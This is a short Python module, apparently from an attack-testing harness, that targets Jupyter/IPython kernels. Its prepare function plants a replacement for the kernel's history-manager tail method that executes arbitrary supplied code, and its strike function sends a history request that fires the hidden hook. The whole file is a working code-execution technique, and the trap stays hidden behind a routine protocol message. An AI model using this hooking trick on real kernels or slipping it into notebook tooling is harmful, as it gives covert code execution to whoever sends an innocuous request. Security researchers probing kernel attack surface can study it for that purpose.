"""The history, through a history manager that an earlier cell has replaced."""

from __future__ import annotations

from attack_house import Client


def prepare(client: Client, code: str) -> None:
    client.run(
        f"def trap(*given, **named):\n    exec({code!r})\n    return []\nget_ipython().history_manager.get_tail = trap"
    )


def strike(client: Client, code: str) -> str:
    return client.send("history_request", {"hist_access_type": "tail", "n": 1, "output": False, "raw": True})
